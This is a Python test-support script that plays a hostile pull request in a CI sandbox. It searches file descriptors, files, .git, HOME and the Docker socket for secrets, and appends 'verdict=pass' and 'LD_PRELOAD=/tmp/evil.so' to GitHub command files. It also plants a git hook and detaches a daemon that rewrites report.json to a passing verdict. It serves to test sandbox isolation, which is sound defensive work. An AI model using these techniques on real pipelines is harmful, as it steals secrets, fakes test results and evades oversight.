"""A pull request's search command that attacks the job before it ranks (tests of the box).

It produces the same run as overlap_runner.py (it runs it), after trying everything a PR's code
could try, and writes what it found to ``hostile.findings`` (a folder the test gives it, open to
every user, as a volume would be). Its retrieval config's ``hostile`` section says where:

``findings``   the folder it reports to (``attack-<pid>.json``; a daemon to ``daemon-<pid>.log``)
``needles``    the secrets it looks for, in hex (so that the config itself holds none)
``search``     folders whose files it reads looking for them (the workspace, ``.git``, HOME...)
``write``      files it tries to append to (the file-command files, the report, ``.git/config``)
``glob``       folders whose every file it also tries to append to (``/github/file_commands``)
``create``     files it tries to create (a report, a hook in ``.git/hooks``)
``socket``     the Docker socket it asks for the containers' environments
``daemon``     a file (``report.json``) a detached (``setsid``, double fork) child waits for, to
               rewrite it to pass, and appends to ``$GITHUB_OUTPUT``-like ``write`` targets
               for ``daemon_seconds``: it reports every change it made and every sighting.
"""

import glob
import json
import os
import runpy
import socket
import sys
import time

import yaml

OVERLAP = os.path.join(os.path.dirname(os.path.abspath(__file__)), "overlap_runner.py")
sys.path.insert(0, os.path.dirname(OVERLAP))
import overlap_runner  # noqa: E402 - beside this file, in the PR's search/ folder as in tests/support


def _config_path(argv):
    return argv[argv.index("--config") + 1]


def _search_fds(needles, found):
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        found["fds"].append([fd, target])
        if fd <= 2:
            continue
        try:
            data = os.pread(fd, 1 << 20, 0)
        except OSError:
            try:
                os.set_blocking(fd, False)
                data = os.read(fd, 1 << 20)
            except OSError:
                continue
        found["hits"] += [f"fd {fd} ({target})" for n in needles if n in data]


def _search_files(roots, needles, found):
    for root in roots:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        data = handle.read(8 << 20)
                except OSError:
                    continue
                found["files_read"] += 1
                found["hits"] += [path for n in needles if n in data]


def _ask_socket(path, needles, found):
    def get(url):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(10)
            sock.connect(path)
            sock.sendall(f"GET {url} HTTP/1.0\r\nHost: docker\r\n\r\n".encode())
            chunks = []
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                chunks.append(chunk)
            return b"".join(chunks)

    try:
        listing = get("/containers/json")
    except OSError as error:
        found["socket"] = f"refused: {error.strerror or error}"
        return
    found["socket"] = "connected"
    found["hits"] += ["docker socket /containers/json" for n in needles if n in listing]
    body = listing.split(b"\r\n\r\n", 1)[-1]
    try:
        ids = [c["Id"] for c in json.loads(body)]
    except (ValueError, KeyError, TypeError):
        ids = []
    for cid in ids:
        data = get(f"/containers/{cid}/json")
        found["hits"] += [f"docker socket /containers/{cid[:12]}/json" for n in needles if n in data]


def _try_append(path, text):
    try:
        with open(path, "a") as handle:
            handle.write(text)
        return "written"
    except OSError as error:
        return f"refused: {error.strerror}"


def _try_create(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
        return "written"
    except OSError as error:
        return f"refused: {error.strerror}"


def _targets(spec):
    targets = list(spec.get("write", []))
    for folder in spec.get("glob", []):
        targets += sorted(glob.glob(os.path.join(folder, "*")))
    return targets


def _daemon(spec, findings):
    """Detach (double fork, setsid) and outlive the run if the gate lets it."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    log = os.path.join(findings, f"daemon-{os.getpid()}.log")  # one each: every run is another uid

    def note(line):
        with open(log, "a") as handle:
            handle.write(line + "\n")

    note(f"pid {os.getpid()} {time.time():.3f}")
    target = spec["daemon"]
    deadline = time.monotonic() + float(spec.get("daemon_seconds", 600))
    rewritten = False
    while time.monotonic() < deadline:
        if os.path.exists(target):
            note(f"saw {target}")
            if not rewritten:
                try:
                    report = json.load(open(target))
                    report["verdict"]["kind"] = "pass"
                    with open(target, "w") as handle:
                        json.dump(report, handle)
                    note(f"rewrote {target}")
                except (OSError, ValueError, KeyError, TypeError) as error:
                    note(f"could not rewrite {target}: {error}")
                rewritten = True
            for path in _targets(spec):
                if _try_append(path, "verdict=pass\n") == "written":
                    note(f"appended to {path}")
        time.sleep(0.02)
    os._exit(0)


def attack(spec):
    needles = [bytes.fromhex(n) for n in spec.get("needles", [])]
    findings = spec["findings"]
    found = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "pid": os.getpid(),
             "home": os.environ.get("HOME"), "tmpdir": os.environ.get("TMPDIR"), "hits": [], "examined": [],
             "environ_readable": [], "mem_readable": [], "fds": [], "files_read": 0, "writes": {}, "creates": {},
             "env_names": sorted(os.environ)}
    found["hits"] += ["own environment" for n in needles if any(n in v.encode() for v in os.environ.values())]
    overlap_runner.search_processes(needles, found)
    _search_fds(needles, found)
    _search_files(spec.get("search", []), needles, found)
    if spec.get("socket"):
        _ask_socket(spec["socket"], needles, found)
    for path in _targets(spec):
        found["writes"][path] = _try_append(path, "verdict=pass\nLD_PRELOAD=/tmp/evil.so\n")
    for path in spec.get("create", []):
        found["creates"][path] = _try_create(path, "#!/bin/sh\necho owned\n")
    with open(os.path.join(findings, f"attack-{os.getpid()}.json"), "w") as handle:
        json.dump(found, handle)
    if spec.get("daemon"):
        _daemon(spec, findings)


def main():
    with open(_config_path(sys.argv), encoding="utf-8") as handle:
        config = yaml.safe_load(handle) or {}
    if config.get("hostile"):
        attack(config["hostile"])
    sys.argv = [OVERLAP, *sys.argv[1:]]
    runpy.run_path(OVERLAP, run_name="__main__")


if __name__ == "__main__":
    main()
